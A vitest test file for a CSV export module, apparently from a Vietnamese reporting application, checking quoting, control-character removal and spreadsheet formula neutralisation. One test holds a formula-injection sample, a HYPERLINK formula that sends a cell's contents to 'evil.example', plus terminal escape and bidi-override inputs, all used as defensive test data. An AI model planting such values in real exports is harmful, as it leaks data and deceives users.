import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../domain/csv';
import type { ConsolidationUnitRow } from '../../activities/documents/types';
import { consolidationUnitsCsv, overdueUnitsCsv } from '../../activities/documents/unit-csv';
import { hasUnsafeControls, stripControls } from '../../domain/text';

const BOM = '\uFEFF';

/**
 * A strict RFC 4180 reader: records end in CRLF, a quoted field may hold commas, line breaks
 * and doubled quotes; anything else (a bare quote in an unquoted field, text after a closing
 * quote, a bare CR or LF outside quotes) throws.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  const endField = () => {
    if (text[i] === ',') {
      i += 1;
      return;
    }
    if (text.startsWith('\r\n', i)) {
      records.push(fields);
      fields = [];
      i += 2;
      return;
    }
    throw new Error(`Invalid CSV at ${i}: expected a comma or CRLF, received ${JSON.stringify(text.slice(i, i + 10))}`);
  };
  while (i < text.length) {
    if (text[i] === '"') {
      let value = '';
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('Invalid CSV: unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        value += text[i];
        i += 1;
      }
      fields.push(value);
    } else {
      let end = i;
      while (end < text.length && text[end] !== ',' && text[end] !== '\r' && text[end] !== '\n') {
        if (text[end] === '"') throw new Error(`Invalid CSV at ${end}: a quote inside an unquoted field`);
        end += 1;
      }
      fields.push(text.slice(i, end));
      i = end;
    }
    endField();
  }
  return records;
}

/** The records of a CSV written by `toCsv`, after checking and removing the BOM. */
function read(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  return parseCsv(csv.slice(BOM.length));
}

describe('toCsv', () => {
  it('starts with the UTF-8 byte order mark, so Excel reads Vietnamese diacritics right', () => {
    const csv = toCsv(['Tên đơn vị'], [['Ủy ban Mặt trận Tổ quốc Việt Nam tỉnh']]);

    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(read(csv)).toEqual([['Tên đơn vị'], ['Ủy ban Mặt trận Tổ quốc Việt Nam tỉnh']]);
  });

  it('ends every record with CRLF and quotes only fields holding a quote, a comma or a line break', () => {
    const csv = toCsv(['a', 'b', 'c', 'd'], [['plain', 'có, dấu phẩy', 'nói "vâng"', 'hai\ndòng']]);

    expect(csv).toBe(`${BOM}a,b,c,d\r\nplain,"có, dấu phẩy","nói ""vâng""","hai\ndòng"\r\n`);
  });

  it('keeps a line break inside a field as LF within quotes, whatever kind it was', () => {
    const csv = toCsv(['Ghi chú'], [['một\r\nhai\rba\u2028bốn\u0085năm']]);

    expect(read(csv)).toEqual([['Ghi chú'], ['một\nhai\nba\nbốn\nnăm']]);
  });

  it('removes control characters: ESC sequences, NUL, BEL and bidi overrides', () => {
    const csv = toCsv(['Ghi chú'], [['\u001b]0;x\u0007tên\u0000 \u202Eevil']]);

    expect(hasUnsafeControls(csv)).toBe(false);
    expect(read(csv)[1]).toEqual([']0;xtên evil']);
  });

  it('neutralises spreadsheet formulas with a leading apostrophe', () => {
    const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\u0000=1+1'];

    const records = read(toCsv(['Ghi chú'], dangerous.map((value) => [value])));

    expect(records.slice(1).map(([field]) => field)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Bấm")`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\n=1+1",
      "'=1+1",
    ]);
  });

  it('writes numbers passed as numbers as they are, negative ones too, and undefined as an empty field', () => {
    const csv = toCsv(['STT', 'Số ngày', 'Tỷ lệ', 'Ghi chú'], [[1, -3, 0.5, undefined], [2, 0, -0, '']]);

    expect(csv).toBe(`${BOM}STT,Số ngày,Tỷ lệ,Ghi chú\r\n1,-3,0.5,\r\n2,0,0,\r\n`);
  });

  it('does not let -Infinity pass for a formula', () => {
    expect(read(toCsv(['n'], [[Number.NEGATIVE_INFINITY]]))[1]).toEqual(["'-Infinity"]);
  });

  it('writes a record of one empty field as "" so readers do not skip it as a blank line', () => {
    expect(read(toCsv(['Ghi chú'], [[''], [undefined]]))).toEqual([['Ghi chú'], [''], ['']]);
  });

  it('refuses a row whose length differs from the header, naming the row', () => {
    expect(() => toCsv(['a', 'b'], [['1', '2'], ['3']])).toThrow('Invalid CSV row 2: expected 2 fields (a, b), received 1');
  });

  it('round-trips any text: what a reader gets back is the text without controls, made safe from formulas', () => {
    const text = fc.string({
      unit: fc.oneof(
        fc.constantFrom('"', ',', '\r', '\n', '\r\n', '\u2028', '=', '+', '-', '@', '\t', '\u001b', '\u0000', '\u202E', 'ư', 'Đ', '\u0303'),
        fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
      ),
      maxLength: 30,
    });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, fc.integer({ min: -1000, max: 1000 }))), (rows) => {
        const records = read(toCsv(['A', 'B', 'N'], rows));

        expect(records).toHaveLength(rows.length + 1);
        records.slice(1).forEach((record, index) => {
          const [a, b, n] = rows[index]!;
          expect(record).toHaveLength(3);
          for (const [field, original] of [[record[0]!, a], [record[1]!, b]] as const) {
            // The control rule itself is tested with the text sinks; here: quoting loses nothing,
            // and a field a spreadsheet would run as a formula starts with an apostrophe.
            const clean = stripControls(original);
            expect(field).toBe(/^[=+\-@\t\n]/.test(clean) ? `'${clean}` : clean);
            expect(hasUnsafeControls(field)).toBe(false);
          }
          expect(record[2]).toBe(String(n));
        });
      }),
    );
  });
});

describe('unit lists as CSV', () => {
  const timeZone = 'Asia/Ho_Chi_Minh';

  it('lists overdue units in Vietnamese with the due moment as dd/mm/yyyy HH:mm local time', () => {
    const csv = overdueUnitsCsv(
      'vi',
      [
        { unitId: 'tinh-doan', name: 'Tỉnh đoàn', dueAt: '2020-02-05T10:00:00Z', daysOverdue: 3 },
        { unitId: 'hoi-phu-nu', name: '=Hội Liên hiệp Phụ nữ, tỉnh', dueAt: '2020-02-07T17:00:00+07:00', daysOverdue: 1 },
      ],
      timeZone,
    );

    expect(read(csv)).toEqual([
      ['STT', 'Mã đơn vị', 'Tên đơn vị', 'Hạn nộp', 'Số ngày làm việc quá hạn'],
      ['1', 'tinh-doan', 'Tỉnh đoàn', '05/02/2020 17:00', '3'],
      ['2', 'hoi-phu-nu', "'=Hội Liên hiệp Phụ nữ, tỉnh", '07/02/2020 17:00', '1'],
    ]);
  });

  it('lists overdue units in English on request', () => {
    const csv = overdueUnitsCsv('en', [{ unitId: 'tinh-doan', name: 'Tỉnh đoàn', dueAt: '2020-02-05T17:00:00+07:00', daysOverdue: 3 }], timeZone);

    expect(read(csv)[0]).toEqual(['No.', 'Unit code', 'Unit name', 'Due', 'Working days overdue']);
  });

  it('refuses a due moment that is not an instant, naming it', () => {
    expect(() => overdueUnitsCsv('vi', [{ unitId: 'x', name: 'X', dueAt: 'hôm qua', daysOverdue: 1 }], timeZone)).toThrow(
      'Invalid instant: expected ISO 8601 with offset, received "hôm qua"',
    );
  });

  it('lists the consolidation units in the report order, with their state in Vietnamese and the notes made safe', () => {
    const rows: ConsolidationUnitRow[] = [
      { unitId: 'ubmttq', name: 'Ủy ban MTTQ Việt Nam tỉnh', shortName: 'MTTQ', state: 'submitted', submittedAt: '2020-02-04T09:30:00+07:00', submittedBy: 'Trần Thị Bình', documentRef: '12-BC/MTTQ' },
      { unitId: 'hoi-nong-dan', name: 'Hội Nông dân tỉnh', shortName: 'HND', state: 'late', submittedAt: '2020-02-07T10:00:00+07:00', submittedBy: 'Lê Văn Cường', daysLate: 2 },
      { unitId: 'hoi-cuu-chien-binh', name: 'Hội Cựu chiến binh tỉnh', shortName: 'HCCB', state: 'excused', note: 'Miễn nộp theo ý kiến\r\nlãnh đạo Ban' },
      { unitId: 'tinh-doan', name: 'Tỉnh đoàn', shortName: 'Tỉnh đoàn', state: 'missing', note: '@Đã gọi "nhắc" 2 lần\u001b[2J' },
    ];

    const records = read(consolidationUnitsCsv('vi', rows, timeZone));

    expect(records).toEqual([
      ['STT', 'Mã đơn vị', 'Đơn vị', 'Tình trạng', 'Thời điểm nộp', 'Số ngày làm việc muộn', 'Người nộp', 'Ghi chú', 'Số, ký hiệu văn bản'],
      ['1', 'tinh-doan', 'Tỉnh đoàn', 'Chưa nộp', '', '', '', '\'@Đã gọi "nhắc" 2 lần[2J', ''],
      ['2', 'hoi-nong-dan', 'Hội Nông dân tỉnh', 'Nộp muộn', '07/02/2020 10:00', '2', 'Lê Văn Cường', '', ''],
      ['3', 'ubmttq', 'Ủy ban MTTQ Việt Nam tỉnh', 'Nộp đúng hạn', '04/02/2020 09:30', '', 'Trần Thị Bình', '', '12-BC/MTTQ'],
      ['4', 'hoi-cuu-chien-binh', 'Hội Cựu chiến binh tỉnh', 'Miễn nộp', '', '', '', 'Miễn nộp theo ý kiến\nlãnh đạo Ban', ''],
    ]);
  });

  it('writes the consolidation units in English on request', () => {
    const records = read(consolidationUnitsCsv('en', [{ unitId: 'tinh-doan', name: 'Tỉnh đoàn', shortName: 'TĐ', state: 'missing' }], timeZone));

    expect(records).toEqual([
      ['No.', 'Unit code', 'Unit', 'State', 'Submitted at', 'Working days late', 'Submitted by', 'Note', 'Document reference'],
      ['1', 'tinh-doan', 'Tỉnh đoàn', 'Not submitted', '', '', '', '', ''],
    ]);
  });
});
